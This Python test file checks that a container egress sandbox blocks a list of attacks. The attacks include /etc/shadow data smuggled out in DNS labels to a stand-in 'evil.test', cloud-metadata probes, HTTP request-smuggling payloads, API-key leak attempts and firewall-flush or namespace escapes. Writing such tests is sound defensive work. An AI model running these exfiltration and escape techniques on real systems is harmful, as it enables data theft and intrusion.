#!/usr/bin/env python3
"""Attacks from inside a leashed container that must fail, by their numbers in the project's list of attacks.

Each looks at three places: what the client saw, what was recorded as blocked, and what was on the wire. ok.test is
allowed, evil.test is not, and the test internet answers for both, and for every other address.
"""

import base64
import gzip
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "lib"))
from checks import *

RESOLVER, EVIL, EVIL6, OK, API = "203.0.113.53", "203.0.113.9", "2001:db8:1::9", "203.0.113.20", "203.0.113.10"
KEY = "sk-ant-api03-REALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREALREAL-REALREAAA"
INSIDE = open(os.path.join(HERE, "inside.py")).read()
POLICY = """
allow:
  - ok.test
  - api.anthropic.com
secrets:
  - env: ANTHROPIC_API_KEY
    hosts: [api.anthropic.com]
"""
_shared = []


def container():
    """One container for all attacks that need nothing special."""
    if not _shared:
        _shared.append(Container(*with_policy(POLICY), "-e", f"ANTHROPIC_API_KEY={KEY}", TEST, "sleep", "3600"))
    return _shared[0]


class Attack:
    """Watches records and wire from here on."""

    def __init__(self, target=None):
        self.target = target or container()
        self.address = self.target.inspect("{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}")
        self.wire, self.origin, self.dns, self.tls, self.catchall = Wire(), Records("origin"), Records("dns"), Records("tls"), Records("catchall")
        self.before = len(self.target.blocked())

    def sh(self, script, **options):
        return self.target.exec("sh", "-c", script, timeout=60, **options)

    def inside(self, *arguments):
        ran = self.target.exec("python3", "-", *arguments, flags=["-i"], stdin=INSIDE, timeout=60).ok()
        return json.loads(ran.out)

    def blocked(self, **wanted):
        return [line for line in self.target.blocked()[self.before:] if all(line.get(k) == v for k, v in wanted.items())]

    def must_be_recorded(self, **wanted):
        eventually(lambda: self.blocked(**wanted), 5, f"no blocked line with {wanted} in {self.target.blocked()[self.before:]}")

    def nothing_left(self):
        """No frame of the container's but questions to its resolver and TCP to the two hosts that are allowed."""
        stray = [f for f in self.wire.frames() if f.get("src") in (self.address, "203.0.113.1") and not f.get("src") == f.get("dst")
                 and not (f["kind"] == "udp" and f["dst"] == RESOLVER and f["dport"] == 53)
                 and not (f["kind"] == "tcp" and f["dst"] in (OK, API) and f["dport"] in (80, 443))]
        that(not stray, "frames that should not be there:", *stray[:10])
        that(not self.wire.towards(EVIL, EVIL6), "frames to the evil host:", *self.wire.towards(EVIL, EVIL6)[:10])
        six = [f for f in self.wire.frames() if f.get("src", "").startswith("fd00:1ea5") and f["kind"] != "icmpv6" and f.get("dst")]
        that(not six, "IPv6 frames:", *six[:10])
        evil = [d for d in self.dns.lines() if "evil" in d.get("name", "")]
        that(not evil, "questions about the evil host were forwarded:", *evil[:10])


@check("attack 1: data in DNS labels is not forwarded, is NXDOMAIN and recorded", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh("dig +tries=1 +time=3 $(head -c20 /etc/shadow | od -An -tx1 | tr -d ' \\n').evil.test")
    contains(ran.out, "status: NXDOMAIN")
    attack.must_be_recorded(layer="dns", reason="host_not_allowed")
    attack.nothing_left()


@check("attack 2: made-up names below an allowed suffix are limited", leashed=True)
def _():
    attack = Attack()
    answers = attack.inside("dns_flood", "ok.test", "500")["answers"]
    forwarded = [d for d in attack.dns.lines() if d.get("name", "").endswith("ok.test")]
    that(len(forwarded) <= 250, f"{len(forwarded)} of 500 names were forwarded", answers)
    ran = attack.sh("dig +tries=1 +time=3 $(head -c28 /dev/urandom | od -An -tx1 | tr -d ' \\n').$(head -c28 /dev/urandom | od -An -tx1 | tr -d ' \\n').ok.test")
    contains(ran.out, "status: NXDOMAIN")
    attack.must_be_recorded(layer="dns", reason="dns_name_suspicious")
    attack.must_be_recorded(layer="dns", reason="dns_rate_exceeded")
    attack.nothing_left()
    time.sleep(1.2)


@check("attack 2c: names in a Host header or a ClientHello are limited as names in DNS questions are", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        data = "".join(f"{byte:02x}" for byte in os.urandom(28))
        for url in (f"http://{data}.{data}.ok.test/", f"https://{data}.ok.test/"):
            host, port = url.split("/")[2], 443 if url.startswith("https") else 80
            ran = attack.sh(f"curl -sk -m5 --resolve {host}:{port}:{OK} {url}")
            contains(ran.out, "dns_name_suspicious", ran)
        attack.must_be_recorded(reason="dns_name_suspicious", layer="tcp")
        equal([d for d in attack.dns.lines() if data in d.get("name", "")], [])
        seen = attack.inside("http_flood", "ok.test", OK, "150")
        forwarded = {d["name"] for d in attack.dns.lines() if d.get("name", "").endswith(".ok.test")}
        that(len(forwarded) <= 100, f"{len(forwarded)} names of 150 were looked up", seen)
        attack.must_be_recorded(reason="dns_rate_exceeded", layer="tcp")
        attack.nothing_left()


@check("attack 3: every resolver that is named is ours, over UDP and TCP", leashed=True)
def _():
    attack = Attack()
    for server in ("@8.8.8.8", "+tcp @1.1.1.1", "@2001:db8:1::53"):
        equal(attack.sh(f"dig +short +tries=1 +time=3 {server} ok.test").out.strip(), OK, server)
        contains(attack.sh(f"dig +tries=1 +time=3 {server} evil.test").out, "status: NXDOMAIN", server)
    that("203.0.113.9" not in attack.sh("dig +tries=1 +time=3 @127.0.0.11 evil.test").out)
    for kind in ("TXT", "NULL", "ANY", "MX", "SRV", "NS"):
        out = attack.sh(f"dig +tries=1 +time=3 @8.8.8.8 ok.test {kind}").out
        that("payload" not in out and "ANSWER: 0" in out, kind, out)
    attack.must_be_recorded(layer="dns", reason="dns_type_not_allowed")
    equal([f for f in attack.wire.frames() if f.get("dst") in ("8.8.8.8", "1.1.1.1", "2001:db8:1::53")], [])
    equal([d for d in attack.dns.lines() if d.get("type") in ("TXT", "NULL", "ANY", "MX", "33", "NS")], [])
    attack.nothing_left()


@check("attack 4: DNS over HTTPS and over TLS reach no resolver", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh("curl -sm5 -H 'accept: application/dns-json' 'https://cloudflare-dns.com/dns-query?name=x.evil.test'")
    equal(ran.code, 6, ran)
    ran = attack.sh("curl -sm5 --resolve cloudflare-dns.com:443:203.0.113.99 'https://cloudflare-dns.com/dns-query?name=x.evil.test'")
    contains(ran.out, "leash_blocked")
    # TLS to a bare address is answered by the proxy itself, whatever the port, to say why not; nothing is forwarded.
    attack.sh("(printf '\\0\\35'; sleep 1) | timeout 3 openssl s_client -quiet -connect 1.1.1.1:853")
    attack.must_be_recorded(port=853)
    attack.must_be_recorded(host="cloudflare-dns.com", layer="http", reason="host_not_allowed")
    attack.nothing_left()


@check("attack 5: no UDP leaves, it is refused at once and recorded", leashed=True)
def _():
    attack = Attack()
    for host, port in ((EVIL, "443"), (OK, "443"), (EVIL6, "443"), ("255.255.255.255", "9"), ("224.0.0.251", "5353")):
        seen = attack.inside("udp", host, port, "secret")
        that(any(seen["errors"]) and seen["seconds"] < 1, host, seen)
    attack.must_be_recorded(layer="ip", reason="protocol_not_allowed")
    that(not attack.wire.with_payload("secret"))
    attack.nothing_left()


@check("attack 6: ignoring proxy variables changes nothing", leashed=True)
def _():
    attack = Attack()
    equal(attack.sh("env -u HTTPS_PROXY -u https_proxy curl -sm5 --noproxy '*' https://evil.test/").code, 6)
    ran = attack.sh(f"curl -sm5 --noproxy '*' --resolve evil.test:443:{EVIL} https://evil.test/ -w ' %{{http_code}}'")
    contains(ran.out, "leash_blocked", ran)
    contains(ran.out, " 403")
    ran = attack.sh(f"curl -sm5 --noproxy '*' --resolve evil.test:80:{EVIL} http://evil.test/")
    contains(ran.out, "host_not_allowed")
    attack.must_be_recorded(host="evil.test", reason="host_not_allowed", scheme="https")
    attack.must_be_recorded(host="evil.test", reason="host_not_allowed", scheme="http")
    attack.nothing_left()


@check("attack 7: an address without a name is refused", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh(f"curl -sk -m5 https://{EVIL}/ -w ' %{{http_code}}'")
    that(ran.code != 0 or "leash_blocked" in ran.out, ran)
    ran = attack.sh(f"curl -s -m5 http://{EVIL}/")
    that(ran.code != 0 or "leash_blocked" in ran.out, ran)
    ran = attack.sh(f"(printf 'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n'; sleep 1) | timeout 5 openssl s_client -quiet -connect {EVIL}:443 -noservername")
    that('"scheme"' not in ran.out, ran)
    attack.must_be_recorded(reason="no_name")
    attack.nothing_left()


@check("attack 8: the address that the client chose for an allowed name is ignored", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh(f"curl -sm5 --resolve ok.test:443:{EVIL} https://ok.test/pinned-address")
    if ran.code == 0 and "leash_blocked" not in ran.out:
        equal([line["to"] for line in attack.origin.find(target="/pinned-address")], [OK])
    equal(attack.sh("curl -sm5 --connect-to ok.test:443:evil.test:443 https://ok.test/").code, 6)
    attack.nothing_left()


@check("attack 9: a Host that is not the TLS name is refused", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh("curl -sk -m5 -H 'Host: evil.test' https://ok.test/ -w ' %{http_code}'")
    contains(ran.out, "host_mismatch", ran)
    contains(ran.out, " 403")
    ran = attack.sh("curl -sk -m5 --connect-to evil.test:443:ok.test:443 https://evil.test/")
    contains(ran.out, "host_not_allowed", ran)
    ran = attack.sh("curl -sk -m5 -H 'Host: api.anthropic.com' https://ok.test/ -H \"x-api-key: $ANTHROPIC_API_KEY\"")
    contains(ran.out, "host_mismatch", ran)
    attack.must_be_recorded(reason="host_mismatch", layer="http")
    equal(attack.origin.lines(), [])
    attack.nothing_left()


@check("attack 10: HTTP/2 is not spoken behind the policy's back", leashed=True)
def _():
    attack = Attack()
    ran = attack.sh("timeout 5 openssl s_client -alpn h2 -connect ok.test:443 -servername ok.test </dev/null 2>&1")
    that("ALPN protocol: h2" not in ran.out, ran)
    seen = attack.inside("raw_tls", "ok.test", r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
    that(not seen["answer"].startswith("\x00"), seen)
    equal([o for o in attack.origin.lines() if "PRI" in str(o)], [])
    attack.nothing_left()


@check("attack 11: an absolute target that is not the Host is refused", leashed=True)
def _():
    attack = Attack()
    for text in (r"GET http://evil.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", r"GET http://ok.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
        seen = attack.inside("raw", "ok.test", "80", text)
        that(seen["answer"].startswith(("HTTP/1.1 403", "HTTP/1.1 400")), seen)
    attack.must_be_recorded(reason="host_mismatch")
    equal(attack.origin.lines(), [])
    attack.nothing_left()


@check("attack 12: CONNECT and proxies on other ports are refused", leashed=True)
def _():
    attack = Attack()
    seen = attack.inside("raw", "ok.test", "80", r"CONNECT evil.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n")
    that(seen["answer"].startswith(("HTTP/1.1 403", "HTTP/1.1 400", "HTTP/1.1 405")), seen)
    seen = attack.inside("raw_tls", "ok.test", r"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
    that(seen["answer"].startswith(("HTTP/1.1 403", "HTTP/1.1 400", "HTTP/1.1 405")), seen)
    ran = attack.sh("curl -sm5 -x http://ok.test:3128 https://evil.test/")
    that(ran.code != 0, ran)
    attack.must_be_recorded(reason="connect_not_allowed")
    equal(attack.origin.lines(), [])
    attack.nothing_left()


@check("attack 13: what is not TLS on 443 and not HTTP on 80 is refused", leashed=True)
def _():
    attack = Attack()
    for port, text in (("443", r"SSH-2.0-OpenSSH_9.2\r\n"), ("443", r"root:x:0:0:root:/root:/bin/bash\n"), ("443", r"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
                       ("80", r"\x00\x01\x02\x03binary\n"), ("80", r"SSH-2.0-OpenSSH_9.2\r\n")):
        seen = attack.inside("raw", "ok.test", port, text)
        that("scheme" not in seen["answer"] and seen["end"] != "open", port, text, seen)
    attack.must_be_recorded(reason="unknown_protocol")
    equal(attack.origin.lines(), [])
    attack.nothing_left()


@check("attack 14: other ports, the gateway and the host are refused at once", leashed=True)
def _():
    attack = Attack()
    gateway = attack.target.inspect("{{.NetworkSettings.Gateway}}")
    for host, port in ((gateway, "22"), (gateway, "80"), (gateway, "2375"), (EVIL, "8888"), (OK, "8888"), ("203.0.113.1", "443"), (attack.address, "9999")):
        seen = attack.inside("connect", host, port)
        that(not seen.get("answer", "").count("hello") and seen["seconds"] < 4, host, port, seen)
        that(seen.get("end") != "open", host, port, seen)
    equal(attack.catchall.lines(), [])
    attack.must_be_recorded(port=8888)
    attack.must_be_recorded(host=gateway)
    attack.nothing_left()


@check("attack 15: a sibling container is neither named nor reached", leashed=True)
def _():
    docker("network", "rm", "attack-15")
    docker("network", "create", "attack-15").ok()
    try:
        with Container("--network", "attack-15", "--name", "other-service", BUSYBOX, "sh", "-c", "while :; do echo sibling | nc -l -p 6379; done", runtime="runc") as sibling, \
             Container("--network", "attack-15", *with_policy(POLICY), TEST, "sleep", "600") as leashed:
            attack = Attack(leashed)
            address = sibling.inspect("{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}")
            equal(attack.sh("curl -sm5 http://other-service:6379/").code, 6)
            for port in ("6379", "80", "443"):
                seen = attack.inside("connect", address, port)
                that("sibling" not in seen.get("answer", "") and seen.get("end") != "open", seen)
            equal(attack.wire.towards(address), [])
            attack.must_be_recorded(host="other-service", layer="dns")
            attack.nothing_left()
    finally:
        docker("network", "rm", "attack-15")


@check("attack 16: IPv6 is under the same policy", leashed=True)
def _():
    attack = Attack()
    that(attack.sh("curl -6 -sm5 https://evil.test/").code != 0)
    for url in (f"https://[{EVIL6}]/", f"http://[{EVIL6}]/", "http://[::ffff:169.254.169.254]/", "http://[::ffff:203.0.113.9]/", "http://[64:ff9b::cb00:7109]/"):
        ran = attack.sh(f"curl -gsk -m5 '{url}'")
        that(ran.code != 0 or "leash_blocked" in ran.out, url, ran)
    ran = attack.sh(f"curl -gsk -m5 --resolve 'evil.test:443:[{EVIL6}]' https://evil.test/")
    contains(ran.out, "host_not_allowed", ran)
    attack.nothing_left()


@check("attack 17: the metadata service is not reached in any spelling", leashed=True)
def _():
    attack = Attack()
    for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]"):
        ran = attack.sh(f"curl -gs -m4 'http://{host}/' -w ' %{{http_code}}'")
        that(ran.code != 0 or "leash_blocked" in ran.out, host, ran)
    attack.must_be_recorded(host="169.254.169.254")
    attack.nothing_left()


@check("attack 17b: an allowed suffix does not open private addresses behind its names", leashed=True)
def _():
    attack = Attack()
    for host in ("private.ok.test", "loopback.ok.test", "metadata.ok.test", "mapped.ok.test"):
        ran = attack.sh(f"curl -s -m5 http://{host}/ -w ' %{{http_code}}'")
        that(ran.code != 0 or " 403" in ran.out, host, ran)
        ran = attack.sh(f"curl -s -m5 --resolve {host}:80:{OK} http://{host}/ -w ' %{{http_code}}'")
        that(ran.code != 0 or " 403" in ran.out or " 502" in ran.out, host, ran)
        that('"scheme"' not in ran.out, host, ran)
    attack.must_be_recorded(reason="private_address")
    equal([t for t in attack.tls.lines() if t["to"] != OK], [])
    attack.nothing_left()


@check("attack 19: ICMP, raw and packet sockets carry nothing out", leashed=True)
def _():
    with Container("--cap-add", "NET_RAW", *with_policy(POLICY), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        ran = attack.sh(f"timeout 5 ping -c2 -W1 -p 736563726574 {EVIL}")
        that(ran.code != 0 and ran.seconds < 6, ran)
        attack.sh(f"timeout 5 ping -6 -c1 -W1 {EVIL6}")
        seen = attack.inside("sockets")
        that(seen["packet"] != "opened", seen)
        attack.sh(f"""python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
s.sendto(bytes.fromhex("45000028000100004011000000000000cb007109") + b"rawsecretpayload", ("{EVIL}", 0))'""")
        that(not attack.wire.with_payload("secret"))
        attack.must_be_recorded(layer="ip")
        attack.nothing_left()


@check("attack 20: only ordinary socket families open", leashed=True)
def _():
    seen = Attack().inside("sockets")
    for name in ("vsock", "alg", "tipc", "packet", "packet-dgram", "sctp", "mptcp", "bluetooth", "can", "xdp", "nfc", "dccp", "netlink-netfilter", "netlink-audit", "netlink-xfrm"):
        that(seen[name] != "opened", name, seen)
    for name in ("inet", "inet6", "unix", "netlink-route"):
        equal(seen[name], "opened", name)
    that({"lo", "eth0"} <= set(seen["interfaces"]), seen)


@check("attack 21: root with NET_ADMIN that flushes every rule still reaches nothing", leashed=True)
def _():
    ran = docker("create", "--runtime", RUNTIME, "--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW", *with_policy(POLICY), TEST, "sleep", "600").ok()
    identity = ran.out.strip()
    try:
        started = docker("start", identity)
        if started.code != 0:
            contains(started.err, "NET_ADMIN")
            return
        leashed = Container.__new__(Container)
        leashed.id = identity
        attack = Attack(leashed)
        attack.sh("nft flush ruleset; nft list ruleset; ip link set eth0 up; ip route replace default dev eth0; ip -6 route replace default dev eth0;"
                  "ip neigh replace 203.0.113.9 lladdr 02:00:00:00:00:01 dev eth0; ip addr add 203.0.113.77/24 dev eth0; ip link add v0 type veth peer name v1; true")
        gateway = attack.target.inspect("{{.NetworkSettings.Gateway}}")
        for script in (f"curl -sk -m2 https://{EVIL}/", f"curl -s -m2 http://{EVIL}/", f"curl -s -m2 http://{gateway}/", f"timeout 3 ping -c1 -W1 {EVIL}",
                       f"dig +tries=1 +time=1 @{EVIL} x.evil.test", f"curl -gsk -m2 'http://[{EVIL6}]/'"):
            ran = attack.sh(script)
            that('"scheme"' not in ran.out and "1 received" not in ran.out and "203.0.113.9\n" not in ran.out, ran)
        attack.inside("udp", EVIL, "443", "secret")
        that(not attack.wire.with_payload("secret"))
        attack.nothing_left()
    finally:
        docker("rm", "-f", "-v", identity)


@check("attack 22: no new network or user namespace, and none to join", leashed=True)
def _():
    attack = Attack()
    for script in ("unshare -Urn true", "unshare -n true", "unshare -U true", "nsenter -t 1 -n true",
                   "python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); import os; f = os.open(\"/proc/1/ns/net\", 0); exit(l.setns(f, 0) == 0 and 77 or 1)'"):
        ran = attack.sh(script)
        that(ran.code not in (0, 77), ran)


@check("attack 23: a ClientHello in any shape is read right or refused", leashed=True)
def _():
    attack = Attack()
    for shape in ("plain", "records", "tiny-records", "bytes", "big", "big-bytes"):
        seen = attack.inside("hello", OK, "ok.test", shape)
        equal(seen["first"], "handshake", shape, seen)
        # the leaf for a forbidden name vouches for the 403 only: nothing may reach a host
        attack.inside("hello", EVIL, "evil.test", shape)
    attack.inside("hello", EVIL, "evil.test", "stall")
    equal([t for t in attack.tls.lines() if t.get("sni") == "evil.test"], [])
    attack.must_be_recorded(host="evil.test")
    attack.nothing_left()


@check("attack 24: no ECH: HTTPS records are not answered, a hello with ECH goes by its outer name", leashed=True)
def _():
    attack = Attack()
    for kind in ("HTTPS", "SVCB", "TYPE65"):
        contains(attack.sh(f"dig +tries=1 +time=3 {kind} ok.test").out, "ANSWER: 0")
    equal(attack.inside("hello", OK, "ok.test", "ech")["first"], "handshake")
    attack.inside("hello", EVIL, "evil.test", "ech")
    equal([d for d in attack.dns.lines() if d.get("type") in ("HTTPS", "64")], [])
    attack.nothing_left()


SMUGGLING = {
    "length and chunked": r"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "odd coding": r"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "coding with a space": r"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "bare LF": r"GET / HTTP/1.1\nHost: ok.test\n\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "folded header": r"GET / HTTP/1.1\r\nHost: ok.test\r\nX-A: 1\r\n Content-Length: 50\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "two lengths": r"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "length list": r"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0, 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "signed length": r"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: +44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    "two hosts": r"GET / HTTP/1.1\r\nHost: ok.test\r\nHost: evil.test\r\n\r\n",
    "no host": r"GET / HTTP/1.1\r\n\r\n",
    "NUL in a header": r"GET / HTTP/1.1\r\nHost: ok.test\r\nX-A: a\x00b\r\n\r\n",
    "bare CR in a header": r"GET / HTTP/1.1\r\nHost: ok.test\r\nX-A: a\rGET /smuggled HTTP/1.1\r\n\r\n",
    "bad chunk size": r"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n",
    "chunked in 1.0": r"POST / HTTP/1.0\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
}


@check("attack 27: requests that can be read in two ways are 400 and the connection ends", leashed=True)
def _():
    attack = Attack()
    for name, text in SMUGGLING.items():
        for seen in (attack.inside("raw", "ok.test", "80", text), attack.inside("raw_tls", "ok.test", text)):
            answers = seen["answer"].count("HTTP/1.1 ")
            that(seen["answer"].startswith(("HTTP/1.1 400", "HTTP/1.1 403", "HTTP/1.1 501")) and answers == 1, name, seen)
            that(seen["end"] != "open", name, "the connection stays open", seen)
    equal([o for o in attack.origin.lines() if "smuggled" in o.get("target", "")], [])
    attack.must_be_recorded(reason="bad_request")
    attack.nothing_left()


@check("attack 27b: a pipelined request to a denied path is judged on its own", leashed=True)
def _():
    policy = "allow:\n  - host: ok.test\n    paths: ['/public/**']\n"
    with Container(*with_policy(policy), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        text = r"GET /public/a HTTP/1.1\r\nHost: ok.test\r\n\r\nGET /admin HTTP/1.1\r\nHost: ok.test\r\n\r\n"
        seen = attack.inside("raw_tls", "ok.test", text)
        that("/admin" not in [o["target"] for o in attack.origin.lines()], attack.origin.lines())
        for path in ("/public/../admin", "/public/%2e%2e/admin", "/public//../admin", "/public/..;/admin", "/%61dmin", "/ADMIN", "/admin/", "/public/%252e%252e/admin", "/public\\..\\admin", "/public/%00"):
            ran = attack.sh(f"curl -s -m5 --path-as-is 'https://ok.test{path}' -w ' %{{http_code}}'")
            that(" 403" in ran.out or " 400" in ran.out, path, ran)
        equal([o["target"] for o in attack.origin.lines() if o["target"] != "/public/a"], [])


@check("attack 31: the real key is in nothing that the container sees", leashed=True)
def _():
    attack = Attack()
    that(KEY not in attack.sh("env; cat /proc/1/environ /proc/*/environ /proc/*/cmdline 2>/dev/null").out)
    contains(attack.sh("echo $ANTHROPIC_API_KEY").out, "sk-ant-")
    ran = attack.sh("grep -rls --binary-files=text RE[A]LREALREALREALREAL / --exclude-dir=sys --exclude-dir=proc --exclude-dir=usr 2>/dev/null; grep -ls RE[A]LREALREALREALREAL /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/keys 2>/dev/null; true")
    equal(ran.out.strip(), "", ran)
    ran = docker("exec", "-e", f"ANTHROPIC_API_KEY={KEY}", attack.target.id, "env").ok()
    that(KEY not in ran.out and "sk-ant-" in ran.out, ran)
    that("REALREAL" not in attack.sh("ls /run/leash /var/lib/leash; cat /dev/leash/*").out)


@check("attack 31b: the real key is in no log and no state of ours, and in no command line on the host", leashed=True)
def _():
    attack = Attack()
    attack.sh('curl -sm5 https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d hello')
    that([o for o in attack.origin.lines() if ["x-api-key", KEY] in o["headers"]], "the real key did not reach its host", attack.origin.lines())
    # its value in the middle, so that this test's own command line does not match
    ran = run("grep", "-rls", "--binary-files=text", KEY, f"/run/leash/{attack.target.id}", f"/var/lib/leash/{attack.target.id}", f"/run/leash-runtime")
    equal(ran.out.strip(), "", ran)
    for directory in os.listdir("/proc"):
        try:
            if directory.isdigit() and "leash" in os.readlink(f"/proc/{directory}/exe"):
                that(KEY.encode() not in open(f"/proc/{directory}/cmdline", "rb").read() + open(f"/proc/{directory}/environ", "rb").read(), directory)
        except (FileNotFoundError, PermissionError, ProcessLookupError):
            pass


@check("attack 32: a placeholder is worth nothing at another host, and an echo does not give the key away", leashed=True)
def _():
    attack = Attack()
    attack.sh('curl -sm5 -H "Authorization: Bearer $ANTHROPIC_API_KEY" https://ok.test/anything')
    that(KEY not in json.dumps(attack.origin.find(sni="ok.test")), attack.origin.lines())
    attack.sh('curl -sm5 "https://ok.test/?k=$ANTHROPIC_API_KEY" -d "$ANTHROPIC_API_KEY"')
    that(KEY not in json.dumps(attack.origin.find(sni="ok.test")))
    attack.must_be_recorded(reason="placeholder_misused") if not attack.origin.find(sni="ok.test") else None
    ran = attack.sh('curl -sm5 -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/echo')
    contains(ran.out, '"scheme"', ran)
    that(KEY not in ran.out and "REALREALREALREAL" not in ran.out, "the echo contains the real key", ran)


@check("attack 32b: the key comes back in no encoding, no interim answer, no trailer, and not but for its end", leashed=True)
def _():
    attack = Attack()
    for place in ("hints", "trailer", "extension", "header", "cut", "chunks", "gzip"):
        for more in ("", "-H 'Accept-Encoding: gzip, br'", "-H 'x-rude: 1'"):
            ran = attack.sh(f'curl -sS -m5 --raw -i -H "x-api-key: $ANTHROPIC_API_KEY" {more} https://api.anthropic.com/echo-in/{place} | base64 -w0')
            seen = base64.b64decode(ran.out)
            that(seen.startswith(b"HTTP/1.1 "), place, more, ran, seen)
            for piece in re.split(rb"\r\n\r\n", seen):
                try:
                    seen += gzip.decompress(piece)
                except (OSError, EOFError):
                    pass
            that(b"REALREAL" not in seen.replace(b"\r\n1\r\n", b""), place, more, seen)
    that([o for o in attack.origin.lines() if ["x-api-key", KEY] in o["headers"]], "the real key did not reach its host")
    attack.nothing_left()


@check("attack 29: a method or a path that a header overrides is judged, however often and however spelt", leashed=True)
def _():
    policy = "allow:\n  - host: ok.test\n    methods: [GET, POST]\n    paths: ['/pub/**']\n"
    with Container(*with_policy(policy), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        for headers in ("-H 'X-HTTP-Method-Override: DELETE'", "-H 'X_HTTP_METHOD_OVERRIDE: DELETE'", "-H 'X-Method-Override: delete'",
                        "-H 'X-HTTP-Method-Override: DELETE' -H 'X-HTTP-Method: GET'", "-H 'X-HTTP-Method: DELETE' -H 'X-Method-Override: GET'",
                        "-H 'X-Original-URL: /admin'", "-H 'X_Rewrite_Url: /admin'"):
            ran = attack.sh(f"curl -s -m5 -X POST {headers} https://ok.test/pub/a -w ' %{{http_code}}'")
            that(" 403" in ran.out or " 400" in ran.out, headers, ran)
        for method in ("get", "PROPFIND", "QUERY", "TRACE", "PUT"):
            ran = attack.sh(f"curl -s -m5 -X {method} https://ok.test/pub/a -w ' %{{http_code}}'")
            that(" 403" in ran.out or " 400" in ran.out, method, ran)
        equal(attack.origin.lines(), [])


@check("attack 35: the target of a redirect is judged anew", leashed=True)
def _():
    attack = Attack()
    for target in ("http://169.254.169.254/", "https://evil.test/", "http://127.0.0.1:80/", f"http://{EVIL}/"):
        ran = attack.sh(f"curl -sL -m5 'https://ok.test/redirect?to={target}' -w ' %{{http_code}}'")
        that(ran.code != 0 or "leash_blocked" in ran.out, target, ran)
    attack.nothing_left()


@check("attack 37: the container sees no control plane of ours", leashed=True)
def _():
    attack = Attack()
    equal(attack.sh("ls -d /run/leash /var/lib/leash /run/leash-runtime 2>/dev/null; cat /proc/net/unix | grep -i leash; true").out.strip(), "")
    ran = attack.sh("ls -l /proc/1/fd /proc/self/fd; cat /proc/self/mountinfo")
    that("/run/leash" not in ran.out.replace("/run/leash/" + attack.target.id + "/trust", ""), ran)


def proxy_memory(container_id, word):
    """VmHWM or VmRSS of a container's proxy, in MiB."""
    for directory in os.listdir("/proc"):
        try:
            if directory.isdigit() and open(f"/proc/{directory}/cmdline", "rb").read() == b"leash-proxy\0" + container_id.encode() + b"\0":
                return int(re.search(rf"{word}:\s+(\d+)", open(f"/proc/{directory}/status").read()).group(1)) / 1024
        except (FileNotFoundError, ProcessLookupError):
            pass
    raise Failed("no proxy")


@check("attack 40: hundreds of large heads that never end are bounded in memory, and the proxy serves on", leashed=True)
def _():
    with Container("--ulimit", "nofile=4096", *with_policy(POLICY), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        seen = attack.inside("large_heads", OK, "600", "62000")["answers"]
        that(seen.get("HTTP/1.1 431", 0) > 200, seen)
        that(proxy_memory(leashed.id, "VmHWM") < 80, f"{proxy_memory(leashed.id, 'VmHWM')} MiB", seen)
        contains(attack.sh("curl -sm5 https://ok.test/").out, '"scheme"')
        attack.must_be_recorded(reason="bad_request")
        attack.nothing_left()


@check("attack 50: exec --privileged, restart and exec with other variables are under the same policy", leashed=True)
def _():
    attack = Attack()
    ran = docker("exec", "--privileged", attack.target.id, "sh", "-c", f"nft flush ruleset; curl -sk -m3 https://{EVIL}/; curl -s -m3 http://{EVIL}/")
    that('"scheme"' not in ran.out, ran)
